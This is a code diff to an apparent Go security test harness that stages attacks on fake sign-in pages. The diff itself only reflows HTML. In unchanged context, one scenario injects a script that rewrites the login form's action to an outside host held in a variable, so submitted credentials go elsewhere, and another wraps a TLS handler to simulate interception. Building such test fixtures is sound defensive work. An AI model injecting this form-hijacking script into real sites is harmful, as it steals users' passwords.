@@ -67,7 +67,8 @@ func inClear(turning bool) (*Attack, error) {
 	if turning {
 		attribute, script = "", `<script>document.forms[0].addEventListener('submit', e => { e.target.action = "`+there+`"; });</script>`
 	}
-	page := `<!doctype html><title>Sign in</title><form method=post action="/login"><label>Name <input name=username></label><label>Password <input type=password name=password></label>
+	page := `<!doctype html><title>Sign in</title><form method=post action="/login">
+<label>Name <input name=username></label><label>Password <input type=password name=password></label>
 <button` + attribute + `>Sign in</button></form>` + script
 	_, args, end, err := public(shownAt(page, &shown))
 	if err != nil {
@@ -103,7 +104,8 @@ func intercepted(his func(*tls.ClientHelloInfo) bool) (*Attack, error) {
 	}
 	var caught, asked, shown, stolen atomic.Int64
 	_, args, end, err := public(func(o *reference.Options) {
-		shownAt(`<!doctype html><title>Sign in</title><form method=post action="/login"><input name=username aria-label=Name><input type=password name=password><button>Sign in</button></form>`, &shown)(o)
+		shownAt(`<!doctype html><title>Sign in</title><form method=post action="/login">
+<input name=username aria-label=Name><input type=password name=password><button>Sign in</button></form>`, &shown)(o)
 		usual := o.Wrap
 		o.Wrap = func(h http.Handler) http.Handler {
 			h = usual(h)
